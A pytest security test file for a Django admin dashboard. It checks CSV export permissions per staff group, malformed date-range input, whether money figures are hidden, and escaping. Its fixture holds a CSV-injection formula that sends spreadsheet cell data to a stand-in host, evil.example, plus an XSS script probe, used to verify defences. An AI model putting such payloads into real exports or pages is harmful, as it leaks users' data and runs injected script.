"""Attack on the cockpit (issue 20): every chart's CSV for every staff group, garbage in the
period picker, and partner names that are formulas or markup."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from billing import services
from billing.tests.factories import make_order, make_partner, make_subscription
from cockpit import panels
from cockpit.tests.test_views import login
from vendorportal import roles

pytestmark = pytest.mark.django_db
D = Decimal
User = get_user_model()

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"klick") <script>alert(1)</script>'


@pytest.fixture
def data(catalog, modules, clock):
    clock.set(datetime(2026, 11, 10, 9, 0))
    partner = make_partner(company=EVIL)
    services.order_confirm(order=make_order(partner, ("INTERCOM", "purchase", 0)))
    make_subscription(partner, monthly_price="44.75", signed_on=date(2026, 9, 10), term_start=date(2026, 10, 1))
    clock.set(datetime(2026, 12, 2, 9, 0))
    return partner


MONEY_PANELS = {p.key for p in panels.PANELS if p.money}


@pytest.mark.parametrize("group", [roles.SALES, roles.FINANCE, roles.SUPPORT, None, "superuser"])
def test_every_chart_csv_for_every_group(client, data, group):
    c = login(client, superuser=True) if group == "superuser" else login(client, group)
    user = User.objects.get(username=f"staff-{group if group not in (None, 'superuser') else 'chef'}")
    visible = {p.key for p in panels.visible_panels(user)}
    for chart in panels.CHARTS:
        response = c.get(reverse("admin:cockpit_csv", kwargs={"chart": chart.key}))
        if chart.panel in visible:
            assert response.status_code == 200, (group, chart.key)
        else:
            assert response.status_code == 404, (group, chart.key)
    if group in (roles.SUPPORT, None):
        assert not visible & MONEY_PANELS  # no money for support or a login without group
    if group is None:
        assert not visible


def test_a_non_staff_login_gets_no_cockpit_and_no_csv(client, data):
    from vendorportal.parties.tests.factories import UserFactory

    user = UserFactory(username="kein-staff", is_staff=False)
    client.force_login(user)
    response = client.get(reverse("admin:cockpit_csv", kwargs={"chart": "mrr"}))
    assert response.status_code == 302 and "/login/" in response["Location"]
    assert "cockpit" not in client.get(reverse("admin:index")).content.decode().lower()


def test_csv_cells_are_no_formulas(client, data):
    """A partner's company name starting with "=" reached the top-partners CSV as a formula that
    a spreadsheet runs (CSV injection); it is written as text now (a leading apostrophe)."""
    c = login(client, roles.SALES)
    response = c.get(
        reverse("admin:cockpit_csv", kwargs={"chart": "top-partner"}), {"zeitraum": "jahr", "stichtag": "2026-01-01"}
    )
    assert response.status_code == 200
    rows = response.content.decode("utf-8-sig").splitlines()
    assert len(rows) == 2, rows
    assert rows[1].startswith("\"'=HYPERLINK("), rows[1]  # quoted: the name holds ";"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.split(";")[:1])


def test_markup_in_a_partner_name_is_shown_as_text(client, data):
    page = login(client, superuser=True).get(reverse("admin:index"), {"zeitraum": "jahr"}).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.parametrize(
    "params",
    [
        {"zeitraum": "frei", "von": "2026-13-45", "bis": "2026-12-01"},
        {"zeitraum": "frei", "von": "2026-12-01", "bis": "2026-01-01"},
        {"zeitraum": "frei", "von": "2000-01-01", "bis": "2999-12-31"},
        {"zeitraum": "frei", "von": "2026-01-01\x00", "bis": "2026-02-01"},
        {"zeitraum": "monat", "stichtag": "0001-01-01"},
        {"zeitraum": "monat", "stichtag": "2000-01-01"},
        {"zeitraum": "quartal", "stichtag": "2999-12-31"},
        {"zeitraum": "x" * 10_000},
        {"zeitraum": ["monat", "jahr"], "stichtag": ["2026-01-01", "nope"]},
        {"from": "2026-13-45", "to": "1999-01-01"},
        {"zeitraum": "jahr", "stichtag": "1e309"},
    ],
)
def test_period_picker_garbage_is_a_message_never_an_error(client, data, params):
    c = login(client, superuser=True)
    page = c.get(reverse("admin:index"), params)
    assert page.status_code in (200, 400)
    if page.status_code == 200:
        assert 'id="cockpit"' in page.content.decode()
    csv = c.get(reverse("admin:cockpit_csv", kwargs={"chart": "mrr"}), params)
    assert csv.status_code in (200, 400)


@pytest.mark.parametrize("group", [roles.SALES, roles.FINANCE, roles.SUPPORT])
def test_every_figure_link_a_group_sees_opens_for_that_group(client, data, group):
    """A figure links to its admin list only when the group may view it, and the filtered list
    then opens (no 403, no 'invalid filter' redirect with ?e=1)."""
    import re

    c = login(client, group)
    page = c.get(reverse("admin:index"), {"zeitraum": "jahr", "stichtag": "2026-01-01"}).content.decode()
    cockpit = page[page.index('id="cockpit"') : page.index('id="model-index"')]
    links = {href.replace("&amp;", "&") for href in re.findall(r'<dd><a href="([^"]+)"', cockpit)}
    assert links, group
    for link in links:
        response = c.get(link)
        assert response.status_code == 200, (group, link, response.status_code)


@pytest.mark.parametrize("group", [roles.SUPPORT, None])
def test_no_amount_of_money_reaches_support_or_a_login_without_group(client, data, group):
    """Not a figure, not a chart label, not a CSV: no euro amount for support or no group."""
    c = login(client, group)
    page = c.get(reverse("admin:index"), {"zeitraum": "jahr", "stichtag": "2026-01-01"}).content.decode()
    cockpit = page[page.index('id="cockpit"') : page.index('id="model-index"')] if 'id="cockpit"' in page else ""
    assert "€" not in cockpit and "EUR" not in cockpit
    user = User.objects.get(username=f"staff-{group or 'chef'}")
    for chart in panels.CHARTS:
        if chart.panel in {p.key for p in panels.visible_panels(user)}:
            body = c.get(reverse("admin:cockpit_csv", kwargs={"chart": chart.key})).content.decode("utf-8-sig")
            assert chart.unit != "money" and "€" not in body, chart.key
